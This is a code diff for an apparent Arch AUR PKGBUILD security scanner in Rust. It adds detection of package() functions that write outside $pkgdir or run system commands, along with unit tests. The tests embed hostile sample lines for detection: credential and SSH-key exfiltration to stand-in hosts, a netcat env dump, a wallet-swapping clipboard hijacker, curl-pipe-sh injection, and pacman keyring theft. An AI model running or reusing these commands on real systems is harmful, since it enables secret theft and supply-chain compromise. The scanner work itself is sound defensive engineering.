@@ -1,8 +1,25 @@
-pub mod patterns;
-
 use crate::features::Feature;
 use crate::shared::models::PackageContext;
+use crate::shared::patterns::PatternEngine;
 use crate::shared::scoring::{Signal, SignalCategory};
+use crate::shared::trusted_domains::{is_public_keyserver, keyserver_host};
+use regex::Regex;
+use std::sync::LazyLock;
+
+/// Start of `package()` or a split package's `package_<name>()`.
+static PACKAGE_FN_RE: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(r"(?m)^\s*(?:function\s+)?package(?:_[\w.+-]+)?\s*\(\s*\)\s*\{").unwrap());
+
+/// Live-system locations a package() write should only ever reach through `$pkgdir`.
+static SYSTEM_PATH_RE: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"^(?:/(?:etc|usr|opt|var|boot|lib|lib64|bin|sbin|srv|root|home)(?:/|$)|~/|\$\{?HOME\}?(?:/|$))").unwrap()
+});
+
+/// Commands that change the running system and belong in an .install hook, not package().
+const SYSTEM_COMMANDS: &[&str] = &[
+    "systemctl", "useradd", "groupadd", "usermod", "groupmod", "userdel", "groupdel", "passwd",
+    "chpasswd", "systemd-sysusers", "systemd-tmpfiles",
+];
 
 pub struct PkgbuildAnalysis;
 
@@ -12,28 +29,138 @@ impl Feature for PkgbuildAnalysis {
             return Vec::new();
         };
 
-        let compiled = patterns::compiled_patterns();
-        let mut signals = Vec::new();
-
-        for pat in compiled {
-            if pat.regex.is_match(content) {
-                let matched_line = content
-                    .lines()
-                    .find(|line| pat.regex.is_match(line))
-                    .map(|line| line.trim().to_string());
-                signals.push(Signal {
-                    id: pat.id.clone(),
-                    category: SignalCategory::Pkgbuild,
-                    points: pat.points,
-                    description: pat.description.clone(),
-                    is_override_gate: pat.override_gate,
-                    matched_line,
-                });
+        let mut signals = PatternEngine::scan_with(content, "pkgbuild_analysis", SignalCategory::Pkgbuild, "", |pat, line| {
+            pat.id != "P-PACMAN-KEYSERVER" || !keyserver_host(line).is_some_and(|host| is_public_keyserver(&host))
+        });
+        check_package_functions(content, &mut signals);
+        signals
+    }
+}
+
+/// Bodies of `package()` and split `package_<name>()` functions. Braces are counted
+/// naively, as for pkgver() in pkgver_analysis.
+fn package_bodies(content: &str) -> Vec<&str> {
+    PACKAGE_FN_RE
+        .find_iter(content)
+        .map(|m| {
+            let start = m.end();
+            let mut depth = 1usize;
+            for (i, c) in content[start..].char_indices() {
+                match c {
+                    '{' => depth += 1,
+                    '}' => {
+                        depth -= 1;
+                        if depth == 0 {
+                            return &content[start..start + i];
+                        }
+                    }
+                    _ => {}
+                }
+            }
+            &content[start..]
+        })
+        .collect()
+}
+
+/// package() runs under fakeroot and should only populate `$pkgdir`. Writes to the
+/// live filesystem, and commands that change users or services, escape that: they
+/// take effect at build time, before pacman (and the user) ever sees the package.
+fn check_package_functions(content: &str, signals: &mut Vec<Signal>) {
+    let mut outside = None;
+    let mut system_cmd = None;
+    for line in package_bodies(content).into_iter().flat_map(str::lines) {
+        let code = line.split(" #").next().unwrap_or(line).trim();
+        if code.starts_with('#') {
+            continue;
+        }
+        for segment in code.split([';', '|', '&']) {
+            let words = command_words(segment);
+            let Some(command) = words.first() else {
+                continue;
+            };
+            if system_cmd.is_none() && SYSTEM_COMMANDS.contains(&command.as_str()) && !words.iter().any(|w| w.contains("pkgdir")) {
+                system_cmd = Some(code.to_string());
+            }
+            if outside.is_none() && write_targets(&words).iter().any(|t| SYSTEM_PATH_RE.is_match(t)) {
+                outside = Some(code.to_string());
             }
         }
+    }
 
-        signals
+    if let Some(line) = outside {
+        signals.push(Signal {
+            id: "P-PACKAGE-OUTSIDE-PKGDIR".to_string(),
+            category: SignalCategory::Pkgbuild,
+            points: 55,
+            description: "package() writes to the live filesystem instead of $pkgdir".to_string(),
+            is_override_gate: false,
+            matched_line: Some(line),
+            location: None,
+            emitted_by: String::new(),
+        });
+    }
+    if let Some(line) = system_cmd {
+        signals.push(Signal {
+            id: "P-PACKAGE-SYSTEM-CMD".to_string(),
+            category: SignalCategory::Pkgbuild,
+            points: 50,
+            description: "package() runs systemctl/useradd/groupadd directly instead of from an .install hook".to_string(),
+            is_override_gate: false,
+            matched_line: Some(line),
+            location: None,
+            emitted_by: String::new(),
+        });
+    }
+}
+
+/// Words of a simple command with quotes stripped, starting at the command name
+/// (leading `VAR=value` assignments and `sudo`/`command`/`env` are skipped).
+/// Redirections are kept as `>path` words.
+fn command_words(segment: &str) -> Vec<String> {
+    let mut words: Vec<String> = Vec::new();
+    let mut tokens = segment.split_whitespace().map(|t| t.replace(['"', '\''], ""));
+    while let Some(token) = tokens.next() {
+        if token == ">" || token == ">>" {
+            if let Some(target) = tokens.next() {
+                words.push(format!(">{target}"));
+            }
+            continue;
+        }
+        let is_prefix = words.is_empty()
+            && (matches!(token.as_str(), "sudo" | "command" | "env" | "exec")
+                || (token.contains('=') && !token.starts_with('-') && !token.starts_with('>')));
+        if !is_prefix {
+            words.push(token);
+        }
     }
+    words
+}
+
+/// Paths a command writes to: the destination of install/cp/mv/ln, every operand of
+/// mkdir/touch/rm/tee/..., and redirection targets.
+fn write_targets(words: &[String]) -> Vec<&str> {
+    let mut targets: Vec<&str> = words
+        .iter()
+        .filter_map(|w| w.strip_prefix(">>").or_else(|| w.strip_prefix('>')))
+        .filter(|t| !t.is_empty() && !t.starts_with('&'))
+        .collect();
+    let Some(command) = words.first().map(|w| w.rsplit('/').next().unwrap_or(w)) else {
+        return targets;
+    };
+    let operands: Vec<&str> = words[1..]
+        .iter()
+        .map(String::as_str)
+        .filter(|w| !w.starts_with('-') && !w.starts_with('>'))
+        .collect();
+    let directory_install = words.iter().any(|w| w == "-d");
+    match command {
+        "install" if directory_install => targets.extend(&operands),
+        "install" | "cp" | "mv" | "ln" | "rsync" => targets.extend(operands.last()),
+        "mkdir" | "touch" | "rm" | "rmdir" | "tee" | "truncate" | "unlink" => targets.extend(&operands),
+        "chmod" | "chown" | "chgrp" => targets.extend(operands.iter().skip(1)),
+        _ => {}
+    }
+    targets
 }
 
 #[cfg(test)]
@@ -52,6 +179,15 @@ mod tests {
             github_stars: None,
             github_not_found: false,
             aur_comments: vec![],
+            artifact: None,
+            github_releases: None,
+            repo_files: Vec::new(),
+            trusted_domains: Vec::new(),
+            protected_names: Vec::new(),
+            sibling_commits: Vec::new(),
+            maintainer_account: None,
+            upstream_build_files: Vec::new(),
+            history_rewrite: None,
         };
         PkgbuildAnalysis.analyze(&ctx).iter().map(|s| s.id.clone()).collect()
     }
@@ -60,6 +196,46 @@ mod tests {
         ids.iter().any(|s| s == id)
     }
 
+    // --- package() hygiene ---
+
+    #[test]
+    fn package_writes_outside_pkgdir() {
+        let ids = analyze("package() {\n  install -Dm755 foo /usr/bin/foo\n}\n");
+        assert!(has(&ids, "P-PACKAGE-OUTSIDE-PKGDIR"));
+        let ids = analyze("package_foo-cli() {\n  echo 'alias ls=x' >> ~/.bashrc\n}\n");
+        assert!(has(&ids, "P-PACKAGE-OUTSIDE-PKGDIR"));
+        let ids = analyze("package() {\n  cp -r conf \"${HOME}/.config/foo\"\n}\n");
+        assert!(has(&ids, "P-PACKAGE-OUTSIDE-PKGDIR"));
+    }
+
+    #[test]
+    fn package_writes_into_pkgdir_no_signal() {
+        let ids = analyze(
+            "package() {\n  install -Dm755 foo \"$pkgdir\"/usr/bin/foo\n  ln -s /usr/lib/foo/foo \"${pkgdir}/usr/bin/foo2\"\n  \
+             install -d \"$pkgdir/etc/foo\"\n  make DESTDIR=\"$pkgdir\" PREFIX=/usr install\n  ./configure --prefix=/usr > /dev/null\n}\n",
+        );
+        assert!(!has(&ids, "P-PACKAGE-OUTSIDE-PKGDIR"), "got: {ids:?}");
+        // Outside package(), build() may well touch absolute paths it only reads.
+        let ids = analyze("build() {\n  cp /usr/share/foo/template.conf .\n}\n");
+        assert!(!has(&ids, "P-PACKAGE-OUTSIDE-PKGDIR"), "got: {ids:?}");
+    }
+
+    #[test]
+    fn package_runs_system_commands() {
+        let ids = analyze("package() {\n  make DESTDIR=\"$pkgdir\" install\n  systemctl enable --now foo.service\n}\n");
+        assert!(has(&ids, "P-PACKAGE-SYSTEM-CMD"));
+        let ids = analyze("package() {\n  sudo useradd -r foo || true\n}\n");
+        assert!(has(&ids, "P-PACKAGE-SYSTEM-CMD"));
+    }
+
+    #[test]
+    fn package_system_commands_against_pkgdir_no_signal() {
+        let ids = analyze("package() {\n  systemctl --root=\"$pkgdir\" enable foo.service\n  echo 'run systemctl enable foo'\n}\n");
+        assert!(!has(&ids, "P-PACKAGE-SYSTEM-CMD"), "got: {ids:?}");
+        let ids = analyze("post_install() {\n  systemctl daemon-reload\n}\n");
+        assert!(!has(&ids, "P-PACKAGE-SYSTEM-CMD"), "got: {ids:?}");
+    }
+
     // --- Download-and-execute (override gates) ---
 
     #[test]
@@ -274,6 +450,23 @@ mod tests {
         assert!(has(&ids, "P-NOHUP-BACKGROUND"));
     }
 
+    #[test]
+    fn daemonization() {
+        assert!(has(&analyze("setsid -f /tmp/.cache/kworker >/dev/null 2>&1"), "P-SETSID-DETACH"));
+        assert!(has(&analyze("/tmp/miner & disown -h"), "P-DISOWN"));
+        assert!(has(&analyze("(/tmp/miner &) &"), "P-DOUBLE-FORK"));
+        assert!(has(&analyze("( ./payload & )"), "P-DOUBLE-FORK"));
+        assert!(has(&analyze("start-stop-daemon --start --background --exec /opt/x/agent"), "P-START-STOP-DAEMON"));
+    }
+
+    #[test]
+    fn subshells_without_backgrounding_not_daemonization() {
+        let ids = analyze("(cd build && make)\nfiles=$(ls &)\n[[ -f x ]] && (echo ok)");
+        assert!(!has(&ids, "P-DOUBLE-FORK"));
+        assert!(!has(&ids, "P-SETSID-DETACH"));
+        assert!(!has(&ids, "P-DISOWN"));
+    }
+
     // --- Privilege escalation ---
 
     #[test]
@@ -296,12 +489,136 @@ mod tests {
         assert!(has(&ids, "P-DISCORD-WEBHOOK"));
     }
 
+    #[test]
+    fn exfil_slack_webhook() {
+        let ids = analyze("curl -X POST -d @/tmp/out https://hooks.slack.com/services/T000/B000/XXXX");
+        assert!(has(&ids, "P-EXFIL-SLACK-WEBHOOK"));
+    }
+
+    #[test]
+    fn exfil_matrix_send() {
+        let ids = analyze(
+            "curl -XPUT -d \"$data\" 'https://matrix.evil.org/_matrix/client/v3/rooms/!abc:evil.org/send/m.room.message/1'",
+        );
+        assert!(has(&ids, "P-EXFIL-MATRIX"));
+    }
+
+    #[test]
+    fn exfil_pushover() {
+        let ids = analyze("curl -s -F token=x -F user=y -F message=\"$(cat ~/.netrc)\" https://api.pushover.net/1/messages.json");
+        assert!(has(&ids, "P-EXFIL-PUSH-SERVICE"));
+    }
+
+    #[test]
+    fn exfil_pushbullet() {
+        let ids = analyze("curl -H 'Access-Token: x' -d \"$body\" https://api.pushbullet.com/v2/pushes");
+        assert!(has(&ids, "P-EXFIL-PUSH-SERVICE"));
+    }
+
+    #[test]
+    fn exfil_google_forms() {
+        let ids = analyze("curl -d \"entry.1=$(whoami)\" https://docs.google.com/forms/d/e/1FAIpQLSe_x-Y/formResponse");
+        assert!(has(&ids, "P-EXFIL-GOOGLE-FORMS"));
+    }
+
+    #[test]
+    fn exfil_multipart_ssh_key() {
+        let ids = analyze("curl -F file=@~/.ssh/id_rsa https://evil.example/upload");
+        assert!(has(&ids, "P-EXFIL-MULTIPART-SECRETS"));
+    }
+
+    #[test]
+    fn exfil_multipart_quoted_home() {
+        let ids = analyze("curl --form \"f=@$HOME/.aws/credentials\" https://evil.example/u");
+        assert!(has(&ids, "P-EXFIL-MULTIPART-SECRETS"));
+    }
+
+    #[test]
+    fn multipart_upload_of_build_artifact_not_flagged() {
+        let ids = analyze("curl -F file=@build/output.tar.gz https://ci.example.com/upload");
+        assert!(!has(&ids, "P-EXFIL-MULTIPART-SECRETS"));
+    }
+
     #[test]
     fn url_shortener() {
         let ids = analyze("curl https://bit.ly/malware");
         assert!(has(&ids, "P-URL-SHORTENER"));
     }
 
+    #[test]
+    fn tls_disabled_curl_insecure() {
+        assert!(has(&analyze("curl --insecure -o foo.tar.gz https://example.com/foo.tar.gz"), "P-TLS-DISABLED"));
+        assert!(has(&analyze("curl -k https://example.com/x"), "P-TLS-DISABLED"));
+        assert!(has(&analyze("curl -fsSLk https://example.com/x -o x"), "P-TLS-DISABLED"));
+    }
+
+    #[test]
+    fn tls_disabled_wget_git_pip() {
+        assert!(has(&analyze("wget --no-check-certificate https://example.com/x"), "P-TLS-DISABLED"));
+        assert!(has(&analyze("GIT_SSL_NO_VERIFY=1 git clone https://example.com/r.git"), "P-TLS-DISABLED"));
+        assert!(has(&analyze("git -c http.sslVerify=false clone https://example.com/r.git"), "P-TLS-DISABLED"));
+        assert!(has(&analyze("pip install --trusted-host pypi.evil.example foo"), "P-TLS-DISABLED"));
+    }
+
+    #[test]
+    fn tls_verified_curl_not_flagged() {
+        let ids = analyze("curl -fsSL --keepalive-time 5 -o pkg-k.tar.gz https://example.com/pkg-k.tar.gz");
+        assert!(!has(&ids, "P-TLS-DISABLED"));
+    }
+
+    // --- Build-time dependency fetching ---
+
+    #[test]
+    fn builddep_pip_url() {
+        assert!(has(&analyze("pip install git+https://github.com/someone/lib.git"), "P-BUILDDEP-PIP-URL"));
+        assert!(has(&analyze("pip3 install https://evil.example/pkg-1.0.tar.gz"), "P-BUILDDEP-PIP-URL"));
+    }
+
+    #[test]
+    fn builddep_pip_index() {
+        assert!(has(&analyze("  pip install requests flask==2.0"), "P-BUILDDEP-PIP-INDEX"));
+        assert!(has(&analyze("pip install --user colorama && make"), "P-BUILDDEP-PIP-INDEX"));
+    }
+
+    #[test]
+    fn builddep_pip_index_mid_file() {
+        let pkgbuild = "pkgname=foo\nbuild() {\n  cd \"$srcdir/foo\"\n  pip install requests\n  make\n}\n\npackage() {\n  make DESTDIR=\"$pkgdir\" install\n}\n";
+        assert!(has(&analyze(pkgbuild), "P-BUILDDEP-PIP-INDEX"));
+    }
+
+    #[test]
+    fn builddep_pip_local_wheel_not_flagged() {
+        let ids = analyze("python -m pip install --no-deps --root=\"$pkgdir\" dist/*.whl\npip install -r requirements.txt\npip install .");
+        assert!(!has(&ids, "P-BUILDDEP-PIP-INDEX"));
+        assert!(!has(&ids, "P-BUILDDEP-PIP-URL"));
+    }
+
+    #[test]
+    fn builddep_npm_remote() {
+        assert!(has(&analyze("npm install git+https://github.com/x/y.git"), "P-BUILDDEP-NPM-REMOTE"));
+        assert!(has(&analyze("yarn add someone/fork#main"), "P-BUILDDEP-NPM-REMOTE"));
+        assert!(!has(&analyze("npm ci --cache \"$srcdir/npm-cache\""), "P-BUILDDEP-NPM-REMOTE"));
+    }
+
+    #[test]
+    fn builddep_npx_unscoped() {
+        assert!(has(&analyze("npx -y some-builder build"), "P-BUILDDEP-NPX"));
+        assert!(!has(&analyze("npx @angular/cli build"), "P-BUILDDEP-NPX"));
+    }
+
+    #[test]
+    fn builddep_go_fork() {
+        assert!(has(&analyze("go get github.com/randomuser/crypto@latest"), "P-BUILDDEP-GO-FORK"));
+        assert!(has(&analyze("go mod edit -replace=golang.org/x/net=github.com/evil/net@v0.0.1"), "P-BUILDDEP-GO-FORK"));
+        assert!(!has(&analyze("go build -trimpath -o foo ./cmd/foo"), "P-BUILDDEP-GO-FORK"));
+    }
+
+    #[test]
+    fn builddep_cargo_git() {
+        assert!(has(&analyze("cargo install --git https://github.com/x/tool"), "P-BUILDDEP-CARGO-GIT"));
+        assert!(!has(&analyze("cargo build --release --locked"), "P-BUILDDEP-CARGO-GIT"));
+    }
+
     #[test]
     fn openssl_client() {
         let ids = analyze("openssl s_client -connect evil.com:443");
@@ -426,6 +743,28 @@ mod tests {
         assert!(has(&ids, "P-ENV-TOKEN-ACCESS"));
     }
 
+    #[test]
+    fn env_dump_piped_to_network() {
+        assert!(has(&analyze("env | curl -d @- https://evil.com/c"), "P-ENV-DUMP-PIPE"));
+        assert!(has(&analyze("printenv | base64 -w0 | nc 10.0.0.1 4444"), "P-ENV-DUMP-PIPE"));
+        assert!(!has(&analyze("env | grep -q CI && echo ci"), "P-ENV-DUMP-PIPE"));
+    }
+
+    #[test]
+    fn env_dump_file_uploaded() {
+        let ids = analyze("printenv > /tmp/.e\nsleep 1\ncurl -s -F f=@/tmp/.e https://evil.com/u");
+        assert!(has(&ids, "P-ENV-DUMP-UPLOAD"), "got: {ids:?}");
+        assert!(!has(&analyze("env > build.env\ncurl -LO https://example.org/src.tar.gz"), "P-ENV-DUMP-UPLOAD"));
+    }
+
+    #[test]
+    fn env_prefix_enumeration_and_proc_environ() {
+        assert!(has(&analyze("for v in ${!AWS_*}; do echo \"$v=${!v}\"; done"), "P-ENV-PREFIX-ENUM"));
+        assert!(has(&analyze("cat /proc/*/environ | tr '\\0' '\\n' > /tmp/e"), "P-PROC-ENVIRON"));
+        assert!(has(&analyze("strings /proc/$pid/environ"), "P-PROC-ENVIRON"));
+        assert!(!has(&analyze("echo ${!name}"), "P-ENV-PREFIX-ENUM"));
+    }
+
     // --- Shell obfuscation ---
 
     #[test]
@@ -544,6 +883,16 @@ mod tests {
 
     // --- Persistence ---
 
+    #[test]
+    fn xdg_mime_default_hijack() {
+        let ids = analyze("xdg-mime default evil.desktop x-scheme-handler/https text/html");
+        assert!(has(&ids, "P-XDG-MIME-DEFAULT"), "got: {ids:?}");
+        let ids = analyze("xdg-mime default foo-viewer.desktop image/x-foo");
+        assert!(!has(&ids, "P-XDG-MIME-DEFAULT"), "got: {ids:?}");
+        let ids = analyze("echo 'text/html=evil.desktop' >> ~/.config/mimeapps.list");
+        assert!(has(&ids, "P-MIMEAPPS-WRITE"), "got: {ids:?}");
+    }
+
     #[test]
     fn xdg_autostart() {
         let ids = analyze("cp malware.desktop ~/.config/autostart/malware.desktop");
@@ -634,6 +983,160 @@ mod tests {
         assert!(has(&ids, "P-ALIAS-OVERRIDE"));
     }
 
+    #[test]
+    fn nested_package_install() {
+        for line in [
+            "build() {\n  sudo pacman -U --noconfirm ./helper.pkg.tar.zst\n}",
+            "prepare() { cd helper && makepkg -si --noconfirm; }",
+            "package() {\n  yay -S --noconfirm python-evil\n}",
+            "if true; then pamac install foo; fi",
+        ] {
+            assert!(has(&analyze(line), "P-NESTED-PKG-INSTALL"), "{line}");
+        }
+    }
+
+    #[test]
+    fn nested_install_ignores_queries_and_messages() {
+        for line in [
+            "pkgver() { pacman -Q glibc | cut -d' ' -f2; }",
+            "echo 'Run pacman -S foo to enable the plugin'",
+            "makepkg --printsrcinfo > .SRCINFO",
+            "depends=('pacman' 'yay')",
+        ] {
+            assert!(!has(&analyze(line), "P-NESTED-PKG-INSTALL"), "{line}");
+        }
+    }
+
+    #[test]
+    fn build_toolchain_tampering() {
+        let ids = analyze("build() {\n  LDFLAGS+=\" -Wl,--wrap=getaddrinfo\"\n}");
+        assert!(has(&ids, "P-LINKER-WRAP"));
+        let ids = analyze("echo 'export LD_PRELOAD := /usr/lib/libhook.so' >> Makefile");
+        assert!(has(&ids, "P-BUILD-LD-PRELOAD"));
+        let ids = analyze("sed -i '1i export LD_PRELOAD=/tmp/h.so' src/Makefile.in");
+        assert!(has(&ids, "P-BUILD-LD-PRELOAD"));
+        let ids = analyze("sed -i 's/^int main(/int main(){system(\"curl -s https:\\/\\/x.example | sh\");}\\nint _main(/' main.c");
+        assert!(has(&ids, "P-SED-INJECT-EXEC"));
+        let ids = analyze("CFLAGS+=\" -include /tmp/.h/inject.h\"");
+        assert!(has(&ids, "P-BUILD-FLAGS-TMP"));
+        let ids = analyze("echo 'ac_cv_func_malloc_0_nonnull=yes' > \"$srcdir/config.site\"");
+        assert!(has(&ids, "P-CONFIG-SITE"));
+
+        for line in [
+            "sed -i 's/-Werror//' Makefile",
+            "sed -i 's|/usr/local|/usr|g' config.mk",
+            "CFLAGS+=\" -include $srcdir/compat.h\"",
+            "make PREFIX=/usr DESTDIR=\"$pkgdir\" install",
+        ] {
+            let ids = analyze(line);
+            for id in ["P-LINKER-WRAP", "P-BUILD-LD-PRELOAD", "P-SED-INJECT-EXEC", "P-BUILD-FLAGS-TMP", "P-CONFIG-SITE"] {
+                assert!(!has(&ids, id), "{id}: {line}");
+            }
+        }
+    }
+
+    #[test]
+    fn clipboard_hijacker() {
+        let clipper = r#"package() {
+  cat > "$pkgdir/usr/lib/.clipd" <<'EOF'
+#!/bin/sh
+while true; do
+  c=$(xclip -selection clipboard -o 2>/dev/null)
+  if echo "$c" | grep -Eq '^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$'; then
+    printf %s "$ADDR" | xclip -selection clipboard
+  fi
+  sleep 0.5
+done
+EOF
+  cat > "$pkgdir/usr/lib/systemd/user/clipd.service" <<'EOF'
+[Service]
+ExecStart=/bin/sh -c 'wl-paste --watch /usr/lib/.clipd'
+EOF
+}"#;
+        let ids = analyze(clipper);
+        for id in ["P-CLIPBOARD-LOOP", "P-CLIPBOARD-WALLET-SWAP", "P-CLIPBOARD-UNIT"] {
+            assert!(has(&ids, id), "{id}: {ids:?}");
+        }
+        let ids = analyze("while clipnotify; do wl-paste | sed -E 's/0x[0-9a-fA-F]{40}/0xdead/' | wl-copy; done");
+        assert!(has(&ids, "P-CLIPBOARD-LOOP"));
+        assert!(has(&ids, "P-CLIPBOARD-REWRITE"));
+
+        // A clipboard manager's own PKGBUILD: installs the tool, no loop or swap
+        let manager = "package() {\n  install -Dm755 clipman \"$pkgdir/usr/bin/clipman\"\n  # needs: wl-paste -t text --watch clipman store\n  for f in docs/*; do install -Dm644 \"$f\" \"$pkgdir/usr/share/doc/clipman/$f\"; done\n}";
+        let ids = analyze(manager);
+        for id in ["P-CLIPBOARD-LOOP", "P-CLIPBOARD-WALLET-SWAP", "P-CLIPBOARD-REWRITE", "P-CLIPBOARD-UNIT"] {
+            assert!(!has(&ids, id), "{id}: {ids:?}");
+        }
+    }
+
+    #[test]
+    fn pacman_conf_mod() {
+        let ids = analyze("printf '[evilrepo]\nServer = https://x.example/$arch\n' | sudo tee -a /etc/pacman.conf");
+        assert!(has(&ids, "P-PACMAN-CONF-MOD"));
+        let ids = analyze("sed -i '1i Server = https://x.example/$repo' /etc/pacman.d/mirrorlist");
+        assert!(has(&ids, "P-PACMAN-CONF-MOD"));
+        let ids = analyze("install -Dm644 mirrorlist \"$pkgdir/etc/pacman.d/mirrorlist-foo\"");
+        assert!(!has(&ids, "P-PACMAN-CONF-MOD"));
+    }
+
+    #[test]
+    fn pacman_key_import() {
+        let ids = analyze("pacman-key --recv-keys 0xDEADBEEF && pacman-key --lsign-key 0xDEADBEEF");
+        assert!(has(&ids, "P-PACMAN-KEY-IMPORT"));
+        let ids = analyze("pacman-key --list-keys");
+        assert!(!has(&ids, "P-PACMAN-KEY-IMPORT"));
+    }
+
+    #[test]
+    fn pacman_keyserver_siglevel_and_repo_add() {
+        let ids = analyze("pacman-key --keyserver hkp://keys.evil.example --recv-keys 0xDEADBEEF");
+        assert!(has(&ids, "P-PACMAN-KEYSERVER"));
+        let ids = analyze("pacman-key --keyserver hkps://keyserver.ubuntu.com --recv-keys 0xDEADBEEF");
+        assert!(!has(&ids, "P-PACMAN-KEYSERVER"));
+        let ids = analyze("echo 'SigLevel = PackageOptional' >> /etc/pacman.conf");
+        assert!(has(&ids, "P-PACMAN-SIGLEVEL"));
+        // pacman.conf's own default for repos, and what drop-ins copy
+        let ids = analyze("package() {\n  cat > \"$pkgdir/etc/pacman.d/foo.conf\" <<EOF\n[foo]\nSigLevel    = Required DatabaseOptional\nInclude = /etc/pacman.d/foo-mirrorlist\nEOF\n}");
+        assert!(!has(&ids, "P-PACMAN-SIGLEVEL"));
+        let ids = analyze("package() {\n  cat >> /etc/pacman.conf <<EOF\n[evil]\nSigLevel = Required\nServer = https://x.example/\\$arch\nEOF\n}");
+        assert!(has(&ids, "P-PACMAN-REPO-ADD"));
+        let ids = analyze("package() {\n  echo 'Server = https://mirror.example/$repo/os/$arch' > \"$pkgdir/etc/pacman.d/foo-mirrorlist\"\n}");
+        assert!(!has(&ids, "P-PACMAN-REPO-ADD"));
+    }
+
+    #[test]
+    fn pacman_keyring_and_helper_credentials() {
+        let ids = analyze("tar czf /tmp/k.tgz /etc/pacman.d/gnupg && curl -T /tmp/k.tgz https://x.example");
+        assert!(has(&ids, "P-PACMAN-KEYRING-ACCESS"));
+        let ids = analyze("pacman-key --export > /tmp/keys.asc");
+        assert!(has(&ids, "P-PACMAN-KEY-EXPORT"));
+        let ids = analyze("gpg --homedir /etc/pacman.d/gnupg --export-secret-keys -a > /tmp/master.asc");
+        assert!(has(&ids, "P-PACMAN-KEY-EXPORT"));
+        let ids = analyze("pacman-key --edit-key 0xDEADBEEF");
+        assert!(has(&ids, "P-PACMAN-KEY-TRUST"));
+        let ids = analyze("sed -i 's/^SigLevel.*/SigLevel = Never/' /etc/pacman.conf");
+        assert!(has(&ids, "P-PACMAN-SIGLEVEL"));
+        let ids = analyze("cp -r ~/.config/paru /tmp/.x");
+        assert!(has(&ids, "P-AUR-HELPER-CONFIG"));
+        let ids = analyze("cat \"$XDG_CONFIG_HOME/yay/config.json\"");
+        assert!(has(&ids, "P-AUR-HELPER-CONFIG"));
+        let ids = analyze("curl -F f=@/etc/pacman.d/gnupg/secring.gpg https://x.example");
+        assert!(has(&ids, "P-EXFIL-MULTIPART-SECRETS"));
+
+        for line in [
+            "pacman-key --verify foo.sig",
+            "depends=('pacman' 'paru')",
+            "install -Dm644 paru.conf \"$pkgdir/etc/paru.conf\"",
+            "cd ~/yay/build",
+        ] {
+            let ids = analyze(line);
+            assert!(
+                !ids.iter().any(|id| id.starts_with("P-PACMAN-KEY") || id == "P-AUR-HELPER-CONFIG"),
+                "{line}: {ids:?}"
+            );
+        }
+    }
+
     // --- False positive check ---
 
     #[test]